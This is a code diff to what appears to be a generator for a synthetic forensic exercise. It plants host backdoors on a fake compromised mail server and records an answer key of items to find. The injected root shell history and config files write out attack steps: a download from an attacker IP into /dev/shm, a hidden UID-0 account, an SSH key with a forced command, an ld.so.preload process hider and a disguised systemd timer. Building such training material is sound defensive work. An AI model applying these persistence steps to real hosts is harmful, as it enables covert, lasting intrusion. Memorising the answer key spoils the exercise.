@@ -37,6 +37,9 @@ SCANNER = "203.0.113.45"
 RELAY_PROBER = "198.51.100.66"
 SPRAYERS = [f"198.51.100.{i}" for i in range(201, 213)]
 COMPROMISED = "liwei"
+BACKDOOR = "sysadm"                # the attacker's second UID-0 account
+IMPLANT_DIR = "/dev/shm/.x"        # where the attacker's kit was unpacked
+PRELOAD_LIB = "/usr/local/lib/libprocesshider.so"
 
 USERS = {  # name: (uid, full name, imap client addresses)
     "admin": (1000, "Mail Admin", [OFFICE[1]]),
@@ -476,6 +479,11 @@ def attack():
     auth.add(s(t, 0.1), "systemd-logind", 512, f"New session 311 of user {COMPROMISED}.")
     auth.add(s(t, 82), "sudo", None, f"  {COMPROMISED} : TTY=pts/1 ; PWD=/home/{COMPROMISED} ; USER=root ; COMMAND=/bin/bash", "sudo_root")
     auth.add(s(t, 82), "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {COMPROMISED}(uid=1002)")
+    # As root: a second UID-0 account and its password (shadow-utils' own syslog lines).
+    auth.add(dt.datetime(2026, 3, 4, 2, 21, 37, tzinfo=TZ), "useradd", 23187,
+             f"new user: name={BACKDOOR}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1", "backdoor_account")
+    auth.add(dt.datetime(2026, 3, 4, 2, 21, 49, tzinfo=TZ), "passwd", 23190,
+             f"pam_unix(passwd:chauthtok): password changed for {BACKDOOR}", "backdoor_account")
     auth.add(dt.datetime(2026, 3, 4, 2, 58, 3, tzinfo=TZ), "sudo", None, "pam_unix(sudo:session): session closed for user root")
     auth.add(dt.datetime(2026, 3, 4, 2, 58, 9, tzinfo=TZ), "sshd", 23012, f"pam_unix(sshd:session): session closed for user {COMPROMISED}")
     auth.add(dt.datetime(2026, 3, 4, 2, 58, 9, tzinfo=TZ), "systemd-logind", 512, "Session 311 logged out. Waiting for processes to exit.")
@@ -976,6 +984,7 @@ def main(root):
     configs(root)
     homes(root)
     system(root)
+    host_backdoor(root)
     compile_maps(root)
 
     def item(kind, path, needle, detail, phase="persistence"):
@@ -999,6 +1008,21 @@ def main(root):
                            "text": f"partner.example.net -> smtp:[{ATTACKER}]:2525",
                            "detail": "present in transport.db only: the text source /etc/postfix/transport lacks it (edit compiled map, keep source clean)",
                            "phase": "persistence"})
+    def host_item(kind, rule, path, needle, detail):
+        item(kind, path, needle, detail)
+        truth["items"][-1]["rule"] = rule
+
+    host_item("uid0_account", "persistence.account", "/etc/passwd", f"{BACKDOOR}:x:0:0",
+              "a second UID-0 account with a login shell, made with useradd -o at 02:21 (auth.log.1)")
+    host_item("root_ssh_key_forced_command", "persistence.ssh_key", "/root/.ssh/authorized_keys", 'command="',
+              "the attacker's key for root, with a forced command that restarts the implant")
+    host_item("ld_preload", "persistence.preload", "/etc/ld.so.preload", PRELOAD_LIB,
+              "a library preloaded into every program (hides the implant's processes and files)")
+    host_item("systemd_timer_devshm", "persistence.service", "/etc/systemd/system/dbus-sync.service",
+              f"ExecStart={IMPLANT_DIR}/dbus-sync",
+              "an enabled timer runs the implant from /dev/shm every 10 minutes")
+    host_item("history_download", "host.history", "/root/.bash_history", f"http://{ATTACKER}/x.tgz",
+              "root's history shows the kit downloaded into /dev/shm and every backdoor set up")
     truth["gap"] = {"path": "/var/log/mail.log.1", "after_line": texts["mail.log.1"].splitlines().index(before_gap[2]) + 1,
                     "last_before": before_gap[0].isoformat(), "first_after": after_gap[0].isoformat(),
                     "removed_lines": len(cut), "removed_from": cut_start.isoformat(), "removed_to": cut_end.isoformat(),
@@ -1308,6 +1332,7 @@ dovenull:x:104:65534:Dovecot login user,,,:/nonexistent:/usr/sbin/nologin
     for u, (uid, full, _) in USERS.items():
         passwd += f"{u}:x:{uid}:{uid}:{full},,,:/home/{u}:/bin/bash\n"
         group += f"{u}:x:{uid}:\n"
+    passwd += f"{BACKDOOR}:x:0:0::/root:/bin/bash\n"
     write(root, "etc/passwd", passwd)
     write(root, "etc/group", group)
     write(root, f"home/{COMPROMISED}/.forward", f"\\{COMPROMISED}, liwei.mobile@{EXFIL_DOMAIN}\n")
@@ -1335,6 +1360,74 @@ if true
                 write(root, f"home/{u}/Maildir/{sub}/{name}",
                       f"Return-Path: <editor@journals.example.com>\nDelivered-To: {u}@{DOMAIN}\nFrom: Editor <editor@journals.example.com>\nTo: {u}@{DOMAIN}\nSubject: [JOURNAL] Review request {i}\nDate: Tue, 3 Mar 2026 10:1{i}:00 +0800\nMessage-ID: <{t}.{i}@journals.example.com>\n\nDear colleague,\nplease find the manuscript attached.\n", 0o600)
     write(root, "root/.bashrc", "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS='--color=auto'\n")
+
+
+def host_backdoor(root):
+    """The host behind the mail service: what the attacker left as root on 4 Mar 02:20-02:30."""
+    rk = random.Random(SEED + 20)  # its own stream: the rest of the sample stays as it was
+    blob = lambda: __import__("base64").b64encode(
+        b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(rk.randrange(256) for _ in range(32))).decode()
+    salt = lambda n: "".join(rk.choice("./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") for _ in range(n))
+    yescrypt = lambda: f"$y$j9T${salt(22)}${salt(43)}"
+    # /etc/shadow (fake hashes of the real yescrypt shape); the collector keeps metadata only.
+    days = {"root": 19800, "admin": 19810, "zhangwei": 19811, "liwei": 19811, "wangfang": 19811, "chenjing": 19811}
+    shadow = ""
+    for line in open(os.path.join(root, "etc/passwd")).read().splitlines():
+        name = line.split(":")[0]
+        if name == BACKDOOR:
+            shadow += f"{name}:{yescrypt()}:20515:0:99999:7:::\n"
+        elif name in days:
+            shadow += f"{name}:{yescrypt()}:{days[name]}:0:99999:7:::\n"
+        else:
+            shadow += f"{name}:*:19800:0:99999:7:::\n"
+    write(root, "etc/shadow", shadow, 0o640)
+    # root's keys: the administrator's, then the attacker's with a forced command.
+    write(root, "root/.ssh/authorized_keys",
+          f"ssh-ed25519 {blob()} admin@oceanlab-laptop\n"
+          f'command="{IMPLANT_DIR}/dbus-sync -d >/dev/null 2>&1; exec $SHELL -l",no-X11-forwarding ssh-ed25519 {blob()} deploy@vps-77\n', 0o600)
+    write(root, "etc/ld.so.preload", f"{PRELOAD_LIB}\n")
+    write(root, "etc/systemd/system/dbus-sync.service", f"""[Unit]
+Description=D-Bus session synchronisation
+After=network-online.target
+
+[Service]
+Type=forking
+ExecStart={IMPLANT_DIR}/dbus-sync -c {IMPLANT_DIR}/config.json
+Restart=always
+
+[Install]
+WantedBy=multi-user.target
+""")
+    write(root, "etc/systemd/system/dbus-sync.timer", """[Unit]
+Description=D-Bus session synchronisation timer
+
+[Timer]
+OnBootSec=1min
+OnUnitActiveSec=10min
+Unit=dbus-sync.service
+
+[Install]
+WantedBy=timers.target
+""")
+    os.makedirs(os.path.join(root, "etc/systemd/system/timers.target.wants"), exist_ok=True)
+    os.symlink("/etc/systemd/system/dbus-sync.timer", os.path.join(root, "etc/systemd/system/timers.target.wants/dbus-sync.timer"))
+    key = open(os.path.join(root, "root/.ssh/authorized_keys")).read().splitlines()[1]
+    write(root, "root/.bash_history", "\n".join([
+        # The administrator's own earlier work.
+        "apt update", "apt upgrade", "systemctl status postfix", "tail -f /var/log/mail.log",
+        "postqueue -p", "less /etc/postfix/main.cf", "certbot renew --dry-run", "df -h",
+        # The attacker, after `sudo /bin/bash` at 02:19.
+        "id", "uname -a", "cat /etc/passwd", "ss -tanp",
+        f"wget -q http://{ATTACKER}/x.tgz -O /dev/shm/x.tgz",
+        f"mkdir -p {IMPLANT_DIR} && tar xzf /dev/shm/x.tgz -C {IMPLANT_DIR} && rm -f /dev/shm/x.tgz",
+        f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {BACKDOOR}", f"passwd {BACKDOOR}",
+        f"mkdir -p /root/.ssh && echo '{key}' >> /root/.ssh/authorized_keys",
+        f"cp {IMPLANT_DIR}/libprocesshider.so {PRELOAD_LIB} && echo {PRELOAD_LIB} > /etc/ld.so.preload",
+        f"cp {IMPLANT_DIR}/dbus-sync.service {IMPLANT_DIR}/dbus-sync.timer /etc/systemd/system/",
+        "systemctl daemon-reload && systemctl enable --now dbus-sync.timer",
+        "vi /etc/postfix/main.cf", "vi /etc/postfix/recipient_bcc", "postmap /etc/postfix/recipient_bcc",
+        "postfix reload", "crontab -e",
+    ]) + "\n", 0o600)
 
 
 def system(root):
@@ -1528,6 +1621,13 @@ times the files had on the host) or pass the year: every log line is from **2026
    symlink, as ManageSieve does), an entry in the **compiled** `transport.db` only (the text
    `transport` was left clean), a root crontab line that downloads and runs a script, and a cron
    job that re-plants the BCC map. Postfix is reloaded at 02:31 and again at 02:52:40.
+   **On the host itself** (02:20–02:30, root's `.bash_history` shows every step): a kit downloaded
+   from `http://{ATTACKER}/x.tgz` and unpacked in `{IMPLANT_DIR}`; a second UID-0 account
+   `{BACKDOOR}` with a login shell and a password (`useradd -o` and `passwd` in `auth.log.1`, the
+   last-change day in `/etc/shadow`); the attacker's SSH key for root with a forced command that
+   restarts the implant; `{PRELOAD_LIB}` in `/etc/ld.so.preload`; and an enabled systemd timer
+   (`dbus-sync.timer`) that runs `{IMPLANT_DIR}/dbus-sync` every 10 minutes. `/etc/shadow` holds
+   fake hashes of the real yescrypt shape; the collector records its metadata only.
 4. **Exfiltration and abuse** — from 02:45: spam through the stolen login from `{ATTACKER}` (170
    messages) and `{ATTACKER2}` (90 messages, then 100 more on 5 Mar 08:10–08:40), three outside
    recipients each, with bounces and deferrals; `{RELAY_PROBER}` probes for an open relay (25
